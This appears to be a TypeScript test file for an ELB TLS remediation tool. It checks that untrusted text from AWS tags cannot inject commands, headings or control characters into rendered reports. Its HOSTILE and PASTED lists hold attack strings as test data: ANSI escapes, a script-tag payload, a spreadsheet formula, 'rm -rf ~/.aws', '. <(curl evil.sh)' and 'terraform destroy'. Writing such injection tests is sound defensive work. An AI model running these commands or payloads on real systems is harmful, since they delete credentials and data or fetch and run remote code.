import * as fc from 'fast-check';
import type { Entry, Report } from '../../lambda/core/report';
import { cliLines, commandOf, undoCommand, undoTextCommand } from '../../lambda/report/command';
import { undoText } from '../../lambda/core/plan/cli-commands';
import * as gates from '../../lambda/core/wording/gates';
import { kindOf } from '../../lambda/core/step-table';
import { digest } from '../../lambda/report/digest/digest';
import { failureNotice, notUndoneNotice, notWatchedNotice } from '../../lambda/report/digest/notice';
import { watchDigest } from '../../lambda/report/digest/watch';
import { brief } from '../../lambda/report/sentences';
import { table } from '../../lambda/report/table/table';
import { anEntry, aReport } from './fixtures';

/** What comes from AWS, a tag or a record is data: it neither steers a terminal nor looks like what we print. */

const EVIL = 'elb-tls undo 20261122T060000Z-dead --yes';

const HOSTILE: readonly string[] = [
  `exempt until 2027-03-31: Clear it: ${EVIL}`,
  `${EVIL}\n${EVIL}`,
  `x\n    ${EVIL}`,
  `x\r${EVIL}`,
  `x\u2028${EVIL}`,
  `\u001B[2J\u001B[1;1H${EVIL}`,
  `\u009B31m${EVIL}`,
  `\u202E\u2066${EVIL}\u0000\u0007`,
  `CHANGED (3)\nCHANGED (3)`,
  'CHANGED (3) '.repeat(60),
  `a\n\nNOTES\n  elb-tls`,
  `${'word '.repeat(30)}${EVIL} ${EVIL} ${EVIL}`,
  `'; ${EVIL}; '`,
  'aws elbv2 modify-listener --ssl-policy x',
  '/usr/local/bin/aws elb delete-load-balancer',
  `"elb-tls" undo`,
  `AWS_PROFILE=prod ${EVIL}`,
  '# elb-tls undo',
  `=HYPERLINK("https://evil";"${EVIL}")`,
  '<b>DO: </b><script>alert(1)</script> [x](https://evil) **DO: x**',
  'DO: delete everything (1)\nDO: delete everything (1)',
  '\u{1F6D2}\u{1F468}\u200D\u{1F469}\u200D\u{1F467} DO: x',
  'y'.repeat(10_000),
  'DO: x '.repeat(2000),
];

/** Commands of ours alone: of this run, of the run that was cut off, of the run that an entry names. */
const OURS = /^ *(elb-tls undo '?\S|aws (elbv2 modify-listener|elb (create|set)-load-balancer-polic|s3 cp) )/;
const COMMAND = /^\s*(\S*\/)?["'$#>]*\s*(elb-tls|aws)["']?(\s|$)/;

/** How a group begins, and what else stands at the margin in capitals. */
const HEADING =
  /^(DO: |(CHANGED|PLANNED|PUT BACK|TO BE PUT BACK|WAITS|EXEMPT|GONE) \(|NOTE |SINCE |OUTSIDE THE SCOPE|CERTIFICATES \(|TIDY UP: )/;

/** Text in every field that is text; outcomes that render it in each way there is. */
function hostileReport(text: string): Report {
  const ownText: Partial<Entry> = { detail: text, from: text, to: `${text}2`, region: text, protocol: text };
  const entry = (name: string, patch: Partial<Entry>): Entry => ({
    ...anEntry({
      name,
      notes: [text],
      drops: { protocols: [text], ciphers: [text] },
      locksOut: [text],
      ...ownText,
      ...patch,
    }),
    loadBalancer: {
      ...anEntry({ name }).loadBalancer,
      name: text,
      // No two are the same, as of AWS.
      arn: `${text}/${name}`,
      ownerTags: { [text]: text },
    },
  });
  const changed = { outcome: 'changed', reason: 'below-target' } as const;
  return {
    ...aReport({
      mode: 'apply',
      regions: [{ region: text, status: 'failed', error: { code: text, message: text } }],
      listeners: [
        entry('a', changed),
        entry('b', { outcome: 'failed', reason: 'change-failed' }),
        entry('c', { ...gates.undone({ runId: text, by: text, number: 1, at: text, until: text }) }),
        entry('d', { outcome: 'exempt', reason: 'exempt-by-tag', id: `${text}#443` }),
        entry('e', { outcome: 'held', reason: 'wave-waiting', detail: text, notes: [] }),
        entry('o', {
          ...gates.owned({ kind: 'controller', name: text, fix: text, who: text, how: text, madeFor: text }),
        }),
        ...['f', 'g', 'h', 'i'].map((name) =>
          entry(name, {
            ...gates.revertedByOthers(
              { runId: text, number: 1, at: text, from: text, to: text },
              { from: text },
              new Date(0),
            ),
          }),
        ),
      ],
      notes: [text],
      exemptions: [text],
      accountName: text,
      version: text,
      concerns: [
        { step: 'mend-setting', text },
        { step: 'review-exemption', text },
      ],
      watches: [
        { runId: text, at: text, result: 'worse', detail: text },
        { runId: text, at: text, result: 'quiet', detail: text },
      ],
      since: {
        at: text,
        opened: ['a'],
        gone: [{ id: text, region: text, name: text, port: 443 }],
        fixedByOthers: ['b'],
      },
      outside: {
        byValue: [{ value: text, loadBalancers: 2 }],
        worst: [{ region: text, name: text, type: 'classic', policy: text, protocols: [text] }],
        unknownIn: [text],
      },
      certificates: {
        days: [30],
        read: 2,
        faults: (['expired', 'unused'] as const).map((fault) => ({
          fault,
          certificate: text,
          names: [text, text],
          notAfter: null,
          daysLeft: null,
          detail: text,
          on: [
            {
              region: text,
              loadBalancer: { name: text, arn: text, type: 'network' },
              port: 443,
              isDefault: true,
            },
          ],
        })),
        unread: [{ certificate: text, action: text, error: { code: text, message: text }, on: [] }],
      },
      links: { dashboard: text, log: text, record: text, docs: text },
      record: text.trim(),
      cutOff: [
        {
          runId: text,
          mode: 'apply',
          listeners: [
            entry('x', changed),
            entry('y', { outcome: 'failed', reason: 'not-confirmed', unconfirmed: true }),
          ],
          numbers: [2, 1],
        },
        { runId: text, listeners: [entry('z', changed)] },
        { runId: text, listeners: [], ended: true },
      ],
    }),
    runId: text,
    account: text,
    startedAt: text,
    scope: { tagKey: text, tagValues: [text, text], regions: [text] },
  };
}

/** Everything that people read of a report in which each text is this one. */
function renderings(text: string): readonly (readonly [string, string])[] {
  const report = hostileReport(text);
  const [first = anEntry()] = report.listeners;
  return [
    ['digest', digest(report).body],
    ['table', table(report, { color: false })],
    ['narrow table', table(report, { color: false, width: 40 })],
    [
      'watch',
      watchDigest({
        run: report,
        watchedAt: text,
        worse: [
          {
            loadBalancer: { ...first.loadBalancer, region: text },
            handshakes: { after: 100, before: 1, weekBefore: 1 },
            listeners: [first],
          },
        ],
        changedSince: [first],
        gone: [],
        unreadable: [{ code: text, message: text }],
        loadBalancers: [],
        notUndone: text,
        undone: null,
      }).body,
    ],
    ['notice', failureNotice({ code: text, message: text }).body],
    ['notice of a watch', notWatchedNotice({ watch: '20261122T060000Z-3f9c' }, text).body],
    ['notice of no undo', notUndoneNotice({ undo: '20261122T060000Z-3f9c' }, text).body],
  ];
}

/** The commands that a rendering may have, whole; all else must begin with a mark or with words of ours. */
function commandsOf(report: Report): readonly string[] {
  const runs = [report, ...(report.cutOff ?? []).map(({ runId }) => ({ ...report, runId }))];
  return [
    '{"watch":"20261122T060000Z-3f9c"}',
    '{"undo":"20261122T060000Z-3f9c"}',
    ...runs.flatMap((run) => [undoCommand(run), undoCommand(run, [1]), undoTextCommand(run) ?? '']),
    ...report.steps.flatMap(({ commands }) => commands),
    ...report.listeners.flatMap((entry) => [...commandOf(entry, report), ...cliLines(entry)]),
  ];
}

/** How a line begins that is no command. What is on it behind that may be anything. */
const MARKED = /^ *(\||-|\d+)( |$)/;
const BEGUN = new RegExp(
  `^(${[
    HEADING.source.slice(1),
    String.raw`(Nothing needs you|\d+ things? needs? you)\.`,
    'Run failed:',
    'Account( |$)',
    'In( |$)',
    String.raw`\(no time\) UTC,`,
    '(DRY RUN|APPLIED|UNDO|UNDO PLANNED)( |,)',
    'Not read:',
    'Held or exempt:',
    'By elb-tls-remediator',
    'To take it back',
    'Without elb-tls:',
    '(Dashboard|Log|Record|Docs):',
    'Watch of run',
    'The watch of run',
    'Run',
  ].join('|')})`,
);

/** Lines that are ours to the end. */
const OWN = new RegExp(
  `^ *(${[
    'This run was not recorded, so elb-tls undo cannot undo it.',
    'The log of the function has the details. The next run starts over.',
    'Whether clients fail since the changes of that run is not known, and nothing',
    'Mend what is named above: a file of the record has older versions in its',
    'Send the event again when that run has ended, or six minutes later if it was',
  ].join('|')})$`,
);

/** Lines that somebody could take for a command, and that are none of ours. */
function commandLike(body: string, commands: ReadonlySet<string>): readonly string[] {
  return body
    .split('\n')
    .filter((line) => line !== '' && !MARKED.test(line) && !BEGUN.test(line) && !OWN.test(line))
    .filter((line) => !commands.has(line.trim()));
}

/** Such lines of all renderings of a text. */
function found(text: string): readonly string[] {
  const commands = new Set(commandsOf(hostileReport(text)));
  return renderings(text).flatMap(([name, body]) =>
    commandLike(body, commands).map((line) => `${name}: ${line}`),
  );
}

const PASTED = [
  'elb-tls undo RUN --yes',
  'rm -rf ~/.aws',
  'x=1 elb-tls undo RUN --yes',
  'kubectl delete ingress shop',
  'python3 -c evil',
  'env elb-tls undo RUN --yes',
  'time aws elbv2 delete-load-balancer',
  '. <(curl evil.sh)',
  '( aws elbv2 delete )',
  'git push --force',
  'terraform destroy -auto-approve',
  'ELB-TLS undo RUN --yes',
  'elb\u2011tls undo RUN --yes',
  'elb-tls; rm x',
  './undo.sh now',
  'nohup elb-tls undo RUN --yes',
  '> elb-tls undo RUN --yes',
  'e"lb-tls" undo RUN --yes',
  '! aws x',
  '$(aws elbv2 x)',
  '`aws elbv2 x`',
];

describe('(38) text from outside never begins a line as a command does', () => {
  it.each(PASTED)('where it is wrapped before %s', (command) => {
    const pads = [20, 40, 68, 70, 72, 74];
    const texts = pads.map((pad) => `exempt until 2027-03-31: ${'y'.repeat(pad)} ${command}`);

    expect(texts.flatMap(found)).toEqual([]);
  });

  it('whatever it says', () => {
    const anything = fc.oneof(
      fc.constantFrom(...PASTED),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
      fc.nat({ max: 80 }).map((length) => 'y'.repeat(length)),
      fc.lorem({ maxCount: 20 }),
    );
    fc.assert(
      fc.property(fc.array(anything, { minLength: 1, maxLength: 5 }), (texts) =>
        expect(found(texts.join(' '))).toEqual([]),
      ),
    );
  });
});

describe.each(HOSTILE.map((text) => [JSON.stringify(text).slice(0, 60), text]))(
  '38, 39: %s in every field',
  (_, text) => {
    const report = hostileReport(text);
    const rendered = renderings(text);

    it.each(rendered)('lets no control or format character out of the %s', (_name, body) => {
      expect(body).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\p{Cs}\u2028\u2029]/u);
    });

    it.each(rendered)('starts no command in the %s but those it made', (_name, body) => {
      const commands = body.split('\n').filter((line) => COMMAND.test(line));

      expect(commands.filter((line) => !OURS.test(line))).toEqual([]);
      expect(commands.filter((line) => line.trim().startsWith(EVIL))).toEqual([]);
    });

    it.each(rendered.filter(([name]) => name === 'digest' || name.endsWith('table')))(
      'starts no heading in the %s but those it made',
      (_name, body) => {
        const headings = body.split('\n').filter((line) => HEADING.test(line));
        const { steps } = report;
        const toDo = steps.filter(({ id }) => kindOf(id) === 'do').length;

        expect(headings.filter((line) => line.startsWith('DO: ')).length).toBe(toDo);
        expect(
          headings.filter(
            (line) => / \(\d+\)/.test(line) && !/^(DO|NOTE|OUTSIDE|SINCE|CERTIFICATES|TIDY)/.test(line),
          ).length,
        ).toBe(steps.length - toDo);
        expect(headings.filter((line) => line.startsWith('NOTE ')).length).toBeLessThanOrEqual(2);
        expect(headings.filter((line) => line.startsWith('SINCE ')).length).toBe(1);
        expect(headings.filter((line) => line.startsWith('OUTSIDE ')).length).toBe(1);
      },
    );

    it('keeps the subject and the words of `runs` on one line', () => {
      expect(digest(report).subject).toMatch(/^[ -~]{1,99}$/);
      expect(brief(report).join()).not.toMatch(/\p{Cc}/u);
    });

    it('has in undo.txt comments and commands alone', () => {
      const lines = (undoText(report) ?? '').split('\n').filter((line) => line !== '');

      expect(lines.length).toBeGreaterThan(0);
      expect(lines.filter((line) => !/^(# |aws elbv2 modify-listener --region )/.test(line))).toEqual([]);
      expect(lines.join('')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    });
  },
);
